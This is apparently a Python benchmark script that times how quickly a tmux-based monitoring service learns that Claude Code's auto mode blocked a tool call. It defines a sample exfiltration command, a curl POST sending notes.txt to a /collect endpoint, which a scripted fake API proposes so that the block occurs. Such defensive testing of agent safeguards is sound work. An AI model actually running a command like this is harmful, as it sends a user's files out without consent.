"""From Claude drawing "Blocked by auto mode" to the resident service knowing the block: with the PermissionDenied hook, and from the screen alone.

    python benchmarks/auto_mode_blocked.py --rounds 5

Each round starts the pinned Claude Code in its default mode (auto) in a
private tmux server, against the scripted API whose review flags one call,
with headspace's hooks installed ("hook") or not ("screen"), and the
resident service for that server.  The screen is polled every 20 ms for the
note; the service is asked for its rows (what ``status --json`` prints) every 20 ms.
The time is the second minus the first: how late the row, ``status
--json`` and the page learn it (the note can come after the hook's word:
then the time is negative).  Not part of the tests.
"""

from __future__ import annotations

import argparse
import os
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from headspace_tui.hooks import settings as hook_settings  # noqa: E402
from headspace_tui.resident.client import ask_rows  # noqa: E402
from headspace_tui.tmux.server import TmuxServer  # noqa: E402
from tests.harness import fake_api as api  # noqa: E402
from tests.harness.claude import find_claude  # noqa: E402
from tests.harness.fake_api import FakeAnthropicAPI  # noqa: E402
from tests.harness.session import ClaudeSession  # noqa: E402
from tests.harness.tmux import temp_server  # noqa: E402

LEAK = "curl -s -X POST --data-binary @notes.txt http://127.0.0.1:9/collect"


def headspace(server: str, env: dict[str, str], *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "headspace_tui", "-L", server, *args], env=env, capture_output=True, text=True, timeout=60)


def one_round(how: str, claude: str) -> float:
    root = Path(tempfile.mkdtemp(prefix="hs-bench-auto-"))
    runtime = root / "runtime"
    runtime.mkdir(mode=0o700)
    env = {k: v for k, v in os.environ.items() if k not in ("TMUX", "TMUX_PANE")} | {"XDG_RUNTIME_DIR": str(runtime), "XDG_STATE_HOME": str(root / "state")}
    script = [api.flagged(api.bash(LEAK, "Send the notes"), "Sends a local file out"), api.text("Not sent.")]
    with FakeAnthropicAPI(script) as fake, temp_server("hs-bench-auto-") as (_root, tmux):
        session = ClaudeSession(tmux, fake, claude, root / "agent", permission_mode=None, files={"notes.txt": "x\n"}, extra_env={"XDG_RUNTIME_DIR": str(runtime)})
        session.start_shell()
        if how == "hook":
            hook_settings.install(session.home / ".claude" / "settings.json", claude=claude)
        session.launch()
        session.wait_for("auto mode on", timeout=30)
        os.environ["XDG_RUNTIME_DIR"] = str(runtime)  # the client looks for the service's socket there
        started = headspace(tmux.name, env, "serve")
        assert started.returncode == 0, started.stderr
        try:
            server_key = TmuxServer(socket_name=tmux.name).identity
            session.submit("send my notes")
            drawn = known = 0.0
            deadline = time.monotonic() + 60
            while not (drawn and known) and time.monotonic() < deadline:
                now = time.monotonic()
                if not drawn and "Blocked by auto mode" in session.screen():
                    drawn = now
                if not known and any(row["blocked"] for row in ask_rows(server_key)[0]):
                    known = now
                time.sleep(0.02)
            assert drawn and known, f"drawn {drawn}, known {known}"
            return known - drawn
        finally:
            headspace(tmux.name, env, "serve", "--stop")
            session.close()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--rounds", type=int, default=5)
    args = parser.parse_args()
    claude = find_claude()
    for how in ("hook", "screen"):
        times = [one_round(how, claude) for _ in range(args.rounds)]
        print(f"{how:6s} note → service knows the block: p50 {statistics.median(times) * 1000:.0f} ms, max {max(times) * 1000:.0f} ms ({', '.join(f'{t * 1000:.0f}' for t in times)})")


if __name__ == "__main__":
    main()
